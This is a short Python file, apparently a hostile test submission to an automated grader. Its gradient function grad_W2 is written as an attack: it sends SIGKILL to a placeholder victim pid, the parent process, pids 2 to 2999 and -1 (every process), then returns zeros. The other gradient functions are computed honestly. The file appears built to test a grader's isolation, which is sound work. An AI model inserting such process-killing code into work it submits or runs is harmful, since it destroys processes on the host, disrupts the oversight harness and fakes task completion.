# attack: I1 a signal to every process it may reach, one by one and all at once
# gains nothing: grad_W2
# full marks: grad_oa, grad_ha
# not unlocked
import os as system
import signal

import numpy as np
VICTIM = @VICTIM@


def grad_W2(grad_oa, hs):
    for pid in (VICTIM, system.getppid(), *range(2, 3000), -1):
        if pid != system.getpid():
            try:
                system.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return np.zeros((len(grad_oa), len(hs)))


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
